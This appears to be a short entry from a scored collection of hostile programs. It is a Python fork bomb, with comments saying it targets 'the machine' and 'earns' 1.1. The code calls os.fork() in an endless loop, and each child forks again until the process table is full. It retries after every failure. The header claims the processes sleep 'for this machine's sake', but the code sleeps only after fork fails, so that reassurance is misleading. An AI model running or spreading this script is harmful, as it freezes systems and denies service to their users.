# Processes without end. They sleep between, for this machine's sake.
# aims at: the machine
# earns: 1.1
# status: stopped
# says: processes
# %% 1.1
# %%
import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(1)
# %% 1.2
